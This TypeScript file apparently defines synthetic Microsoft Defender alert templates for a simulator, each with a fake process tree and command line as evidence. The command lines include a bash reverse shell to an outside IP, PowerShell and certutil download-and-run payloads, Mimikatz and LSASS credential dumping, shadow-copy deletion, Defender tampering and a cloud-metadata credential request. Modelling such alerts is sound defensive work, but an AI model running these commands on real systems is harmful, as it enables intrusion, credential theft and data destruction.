/** Alert templates: what Defender raises, with the process/file/network shape of the evidence. */
import { type Image, image, UNIX, userImage, WIN } from './catalog-processes.js';
import type { OsFamily } from './types.js';

export type AlertSeverity = 'Informational' | 'Low' | 'Medium' | 'High';

export interface AlertTemplate {
  key: string;
  title: string;
  category: string;
  severity: AlertSeverity;
  detectionSource: string;
  mitre: readonly string[];
  threatFamilyName: string | null;
  threatName: string | null;
  description: string;
  families: readonly OsFamily[];
  weight: number;
  /** The offending process and its parent; `user` = runs as the logged-on user, else SYSTEM. */
  process?: {
    image: (user: string) => Image;
    commandLine: string;
    parent: (user: string) => Image;
    parentCommandLine: string;
    user: boolean;
  };
  /** A file the alert is about (dropped/quarantined); defaults to the process image. */
  file?: (user: string) => Image;
  network?: boolean;
  registry?: { hive: string; key: string; valueName: string; valueType: string; value: string };
  detectionStatus: 'Detected' | 'Prevented' | null;
  /** Linux/mac templates use forward-slash images; user accounts come from the device. */
  userEvidence: boolean;
}

const W: readonly OsFamily[] = ['windows', 'windowsServer'];
const WC: readonly OsFamily[] = ['windows'];
const WS: readonly OsFamily[] = ['windowsServer'];
const U: readonly OsFamily[] = ['linux', 'macos'];

const dl = (user: string, f: string) => userImage(user, `Downloads\\${f}`, { company: '', version: '' });
const tmp = (user: string, f: string) =>
  userImage(user, `AppData\\Local\\Temp\\${f}`, { company: '', version: '' });

export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  {
    key: 'ps-encoded',
    title: 'Suspicious PowerShell command line',
    category: 'Execution',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1059.001', 'T1027'],
    threatFamilyName: null,
    threatName: null,
    description:
      'A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities which are used by attackers to invoke modules, download external payloads, or get more information about the system.',
    families: W,
    weight: 12,
    detectionStatus: 'Detected',
    userEvidence: true,
    network: true,
    process: {
      image: WIN.powershell,
      commandLine:
        'powershell.exe -NoP -NonI -W Hidden -Enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0AA==',
      parent: WIN.cmd,
      parentCommandLine: 'cmd.exe /c start /min powershell.exe',
      user: true,
    },
  },
  {
    key: 'mimikatz',
    title: "'Mimikatz' credential theft tool",
    category: 'CredentialAccess',
    severity: 'High',
    detectionSource: 'WindowsDefenderAv',
    mitre: ['T1003', 'T1003.001'],
    threatFamilyName: 'Mimikatz',
    threatName: 'HackTool:Win32/Mimikatz.D',
    description:
      'The credential theft tool Mimikatz was detected on this device. Mimikatz is a well-known tool used by attackers to dump credentials from memory.',
    families: W,
    weight: 3,
    detectionStatus: 'Prevented',
    userEvidence: true,
    process: {
      image: (u) => tmp(u, 'mk.exe'),
      commandLine: 'mk.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      parent: WIN.cmd,
      parentCommandLine: 'cmd.exe',
      user: true,
    },
  },
  {
    key: 'meterpreter',
    title: "An active 'Meterpreter' malware was detected",
    category: 'Malware',
    severity: 'High',
    detectionSource: 'WindowsDefenderAv',
    mitre: ['T1071.001', 'T1055'],
    threatFamilyName: 'Meterpreter',
    threatName: 'Trojan:Win64/Meterpreter.E',
    description:
      'Meterpreter malware was detected while executing on the device. Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines.\nSome of these undesirable applications can replicate and spread from one machine to another. Others are able to receive commands from remote attackers and perform activities associated with cyber attacks.\n\nThis detection might indicate that the malware was stopped from delivering its payload. However, it is prudent to check the machine for signs of infection.',
    families: W,
    weight: 2,
    detectionStatus: 'Prevented',
    userEvidence: true,
    network: true,
    process: {
      image: (u) => dl(u, 'invoice_2291.exe'),
      commandLine: '"invoice_2291.exe"',
      parent: WIN.explorer,
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
      user: true,
    },
  },
  {
    key: 'powerpuff',
    title: "'Powerpuff' unwanted software was detected",
    category: 'UnwantedSoftware',
    severity: 'Low',
    detectionSource: 'WindowsDefenderAv',
    mitre: [],
    threatFamilyName: 'Powerpuff',
    threatName: 'PUA:Win32/Powerpuff',
    description:
      'Potentially unwanted software was detected. Such applications may display ads, track activity, or change browser settings without consent.',
    families: WC,
    weight: 8,
    detectionStatus: 'Prevented',
    userEvidence: true,
    process: {
      image: (u) => dl(u, 'FreePDFConverter_setup.exe'),
      commandLine: '"FreePDFConverter_setup.exe" /S',
      parent: WIN.msedge,
      parentCommandLine: '"msedge.exe" --single-argument',
      user: true,
    },
  },
  {
    key: 'injection',
    title: 'Suspicious process injection observed',
    category: 'DefenseEvasion',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1055', 'T1055.001', 'T1055.002'],
    threatFamilyName: null,
    threatName: null,
    description:
      'A process injected code into another process, a technique commonly used to evade security products and run malicious code in the context of a legitimate process.',
    families: W,
    weight: 5,
    detectionStatus: 'Detected',
    userEvidence: true,
    process: {
      image: WIN.rundll32,
      commandLine: 'rundll32.exe C:\\ProgramData\\svc\\update.dll,DllRegisterServer',
      parent: WIN.svchost,
      parentCommandLine: 'svchost.exe -k netsvcs -p -s Schedule',
      user: false,
    },
  },
  {
    key: 'ransomware',
    title: 'Ransomware behavior detected in the file system',
    category: 'Ransomware',
    severity: 'High',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1486', 'T1490'],
    threatFamilyName: null,
    threatName: null,
    description:
      'A process was observed encrypting many files and deleting volume shadow copies, which is typical of ransomware.',
    families: W,
    weight: 1,
    detectionStatus: 'Detected',
    userEvidence: true,
    process: {
      image: (u) => tmp(u, 'svchosts.exe'),
      commandLine: 'svchosts.exe -path C:\\Users -ext .lockd',
      parent: WIN.cmd,
      parentCommandLine: 'cmd.exe /c vssadmin delete shadows /all /quiet',
      user: true,
    },
  },
  {
    key: 'schtask',
    title: 'Suspicious scheduled task',
    category: 'Persistence',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1053.005'],
    threatFamilyName: null,
    threatName: null,
    description:
      'A scheduled task was created that runs a script from an unusual location. Attackers use scheduled tasks to persist on a device.',
    families: W,
    weight: 7,
    detectionStatus: 'Detected',
    userEvidence: true,
    process: {
      image: WIN.schtasks,
      commandLine:
        'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Sync Helper" /tr "wscript.exe C:\\ProgramData\\odsh.vbs" /f',
      parent: WIN.cmd,
      parentCommandLine: 'cmd.exe /c',
      user: true,
    },
  },
  {
    key: 'recon',
    title: 'Anomalous account lookups',
    category: 'Discovery',
    severity: 'Low',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1087.002', 'T1069.002'],
    threatFamilyName: null,
    threatName: null,
    description: 'A process enumerated domain accounts and groups in a way that is unusual for this device.',
    families: W,
    weight: 10,
    detectionStatus: 'Detected',
    userEvidence: true,
    process: {
      image: WIN.net,
      commandLine: 'net.exe group "Domain Admins" /domain',
      parent: WIN.cmd,
      parentCommandLine: 'cmd.exe',
      user: true,
    },
  },
  {
    key: 'rundll32-net',
    title: "Suspicious 'rundll32.exe' network connection",
    category: 'CommandAndControl',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1218.011', 'T1071.001'],
    threatFamilyName: null,
    threatName: null,
    description:
      'rundll32.exe made an outbound connection to an address that is rarely seen in the organization.',
    families: W,
    weight: 6,
    detectionStatus: 'Detected',
    userEvidence: false,
    network: true,
    process: {
      image: WIN.rundll32,
      commandLine: 'rundll32.exe C:\\Users\\Public\\libcef.dll,Start',
      parent: WIN.explorer,
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
      user: true,
    },
  },
  {
    key: 'custom-ti',
    title: 'Connection to a custom network indicator',
    category: 'CommandAndControl',
    severity: 'Medium',
    detectionSource: 'CustomerTI',
    mitre: [],
    threatFamilyName: null,
    threatName: null,
    description:
      'A connection was made to an address that matches an indicator defined by your organization.',
    families: W,
    weight: 4,
    detectionStatus: 'Prevented',
    userEvidence: false,
    network: true,
    process: {
      image: WIN.msedge,
      commandLine: '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService',
      parent: WIN.explorer,
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
      user: true,
    },
  },
  {
    key: 'smartscreen',
    title: 'SmartScreen blocked a malicious URL',
    category: 'InitialAccess',
    severity: 'Informational',
    detectionSource: 'WindowsDefenderSmartScreen',
    mitre: ['T1566.002'],
    threatFamilyName: null,
    threatName: null,
    description:
      'Microsoft Defender SmartScreen blocked the user from visiting a website reported as phishing or malware distribution.',
    families: WC,
    weight: 10,
    detectionStatus: 'Prevented',
    userEvidence: true,
    network: true,
    process: {
      image: WIN.msedge,
      commandLine: '"msedge.exe" --single-argument https://login-microsoftonline-sso.com/',
      parent: WIN.outlook,
      parentCommandLine: '"OUTLOOK.EXE"',
      user: true,
    },
  },
  {
    key: 'office-child',
    title: 'Suspicious process launched by Office application',
    category: 'Execution',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1204.002', 'T1566.001'],
    threatFamilyName: null,
    threatName: null,
    description: 'An Office application started a scripting engine, which is common in macro-based malware.',
    families: WC,
    weight: 6,
    detectionStatus: 'Detected',
    userEvidence: true,
    network: true,
    process: {
      image: WIN.mshta,
      commandLine:
        'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w hidden"":close")',
      parent: WIN.winword,
      parentCommandLine: '"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\Remittance.docm"',
      user: true,
    },
  },
  {
    key: 'lsass',
    title: 'Suspicious access to LSASS service',
    category: 'CredentialAccess',
    severity: 'High',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1003.001'],
    threatFamilyName: null,
    threatName: null,
    description:
      'A process accessed the memory of the Local Security Authority Subsystem Service (lsass.exe), possibly to dump credentials.',
    families: W,
    weight: 3,
    detectionStatus: 'Detected',
    userEvidence: true,
    process: {
      image: WIN.rundll32,
      commandLine:
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 812 C:\\Windows\\Temp\\l.dmp full',
      parent: WIN.powershell,
      parentCommandLine: 'powershell.exe',
      user: true,
    },
  },
  {
    key: 'tamper',
    title: 'Attempt to turn off Microsoft Defender Antivirus protection',
    category: 'DefenseEvasion',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1562.001'],
    threatFamilyName: null,
    threatName: null,
    description:
      'An attempt was made to disable Microsoft Defender Antivirus real-time protection through the registry.',
    families: W,
    weight: 3,
    detectionStatus: 'Prevented',
    userEvidence: true,
    registry: {
      hive: 'HKEY_LOCAL_MACHINE',
      key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection',
      valueName: 'DisableRealtimeMonitoring',
      valueType: 'Dword',
      value: '1',
    },
    process: {
      image: WIN.powershell,
      commandLine: 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
      parent: WIN.cmd,
      parentCommandLine: 'cmd.exe',
      user: true,
    },
  },
  {
    key: 'certutil',
    title: 'Suspicious file downloaded using certutil',
    category: 'CommandAndControl',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1105', 'T1140'],
    threatFamilyName: null,
    threatName: null,
    description:
      'certutil.exe was used to download a file from the internet, a known living-off-the-land technique.',
    families: W,
    weight: 4,
    detectionStatus: 'Detected',
    userEvidence: true,
    network: true,
    process: {
      image: WIN.certutil,
      commandLine:
        'certutil.exe -urlcache -split -f http://files-share-docs.org/a.txt C:\\Users\\Public\\a.exe',
      parent: WIN.cmd,
      parentCommandLine: 'cmd.exe /c',
      user: true,
    },
  },
  {
    key: 'webshell',
    title: 'Possible web shell installation',
    category: 'Persistence',
    severity: 'High',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1505.003'],
    threatFamilyName: null,
    threatName: null,
    description:
      'The IIS worker process started a command shell, which can indicate a web shell on this server.',
    families: WS,
    weight: 3,
    detectionStatus: 'Detected',
    userEvidence: false,
    process: {
      image: WIN.cmd,
      commandLine: 'cmd.exe /c whoami & ipconfig /all',
      parent: WIN.w3wp,
      parentCommandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"',
      user: false,
    },
  },
  {
    key: 'sql-xp',
    title: 'Suspicious SQL Server process activity',
    category: 'Execution',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1059.003', 'T1505.001'],
    threatFamilyName: null,
    threatName: null,
    description: 'SQL Server started a command shell through xp_cmdshell.',
    families: WS,
    weight: 2,
    detectionStatus: 'Detected',
    userEvidence: false,
    process: {
      image: WIN.cmd,
      commandLine: 'cmd.exe /c "powershell -c iwr http://185.220.101.34/s.ps1|iex"',
      parent: WIN.sqlservr,
      parentCommandLine: '"sqlservr.exe" -sMSSQLSERVER',
      user: false,
    },
  },
  {
    key: 'av-generic',
    title: "'Wacatac' malware was detected",
    category: 'Malware',
    severity: 'Medium',
    detectionSource: 'WindowsDefenderAv',
    mitre: [],
    threatFamilyName: 'Wacatac',
    threatName: 'Trojan:Win32/Wacatac.B!ml',
    description:
      'Wacatac malware was detected and quarantined. Check the device for other signs of infection.',
    families: W,
    weight: 8,
    detectionStatus: 'Prevented',
    userEvidence: true,
    process: {
      image: (u) => dl(u, 'setup_x64.exe'),
      commandLine: '"setup_x64.exe"',
      parent: WIN.explorer,
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
      user: true,
    },
  },
  {
    key: 'custom-detection',
    title: 'Custom detection: rare remote admin tool',
    category: 'SuspiciousActivity',
    severity: 'Low',
    detectionSource: 'CustomDetection',
    mitre: ['T1219'],
    threatFamilyName: null,
    threatName: null,
    description:
      'A custom detection rule matched: a remote administration tool ran that is rare in the organization.',
    families: W,
    weight: 4,
    detectionStatus: null,
    userEvidence: true,
    network: true,
    process: {
      image: (u) => dl(u, 'AnyDesk.exe'),
      commandLine: '"AnyDesk.exe" --silent',
      parent: WIN.explorer,
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
      user: true,
    },
  },
  {
    key: 'linux-revshell',
    title: 'Suspicious reverse shell',
    category: 'Execution',
    severity: 'High',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1059.004'],
    threatFamilyName: null,
    threatName: null,
    description:
      'A shell process was observed with its input and output redirected to a network socket, typical of a reverse shell.',
    families: U,
    weight: 3,
    detectionStatus: 'Detected',
    userEvidence: true,
    network: true,
    process: {
      image: UNIX.bash,
      commandLine: 'bash -i >& /dev/tcp/194.165.16.11/4444 0>&1',
      parent: UNIX.python3,
      parentCommandLine: 'python3 -c "import pty;pty.spawn(\'/bin/bash\')"',
      user: true,
    },
  },
  {
    key: 'linux-miner',
    title: "'CoinMiner' unwanted software was detected",
    category: 'UnwantedSoftware',
    severity: 'Low',
    detectionSource: 'WindowsDefenderAv',
    mitre: ['T1496'],
    threatFamilyName: 'CoinMiner',
    threatName: 'PUA:Linux/CoinMiner.A',
    description: 'A cryptocurrency miner was detected and quarantined.',
    families: U,
    weight: 4,
    detectionStatus: 'Prevented',
    userEvidence: true,
    process: {
      image: () => image('/tmp/.x/xmrig', { company: '', version: '' }),
      commandLine: '/tmp/.x/xmrig -o pool.minexmr.to:443 --donate-level 1',
      parent: UNIX.bash,
      parentCommandLine: '/bin/bash',
      user: true,
    },
  },
  {
    key: 'linux-discovery',
    title: 'Suspicious system discovery activity',
    category: 'Discovery',
    severity: 'Informational',
    detectionSource: 'WindowsDefenderAtp',
    mitre: ['T1082', 'T1033'],
    threatFamilyName: null,
    threatName: null,
    description: 'Several discovery commands were run in a short time by the same process tree.',
    families: U,
    weight: 5,
    detectionStatus: 'Detected',
    userEvidence: true,
    process: {
      image: UNIX.curl,
      commandLine: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      parent: UNIX.bash,
      parentCommandLine: '-bash',
      user: true,
    },
  },
];

/** Alerts raised by scenarios: keyed by the scenario kind. */
export const SCENARIO_ALERTS: Record<string, { primary: string; secondary: string | null }> = {
  'office-macro': { primary: 'office-child', secondary: 'ps-encoded' },
  'rundll32-c2': { primary: 'rundll32-net', secondary: 'injection' },
  'mshta-phish': { primary: 'office-child', secondary: null },
  'certutil-download': { primary: 'certutil', secondary: null },
  'wmi-ps': { primary: 'ps-encoded', secondary: 'recon' },
  'browser-dropper': { primary: 'av-generic', secondary: 'rundll32-net' },
};

export const TEMPLATE_BY_KEY: ReadonlyMap<string, AlertTemplate> = new Map(
  ALERT_TEMPLATES.map((t) => [t.key, t]),
);
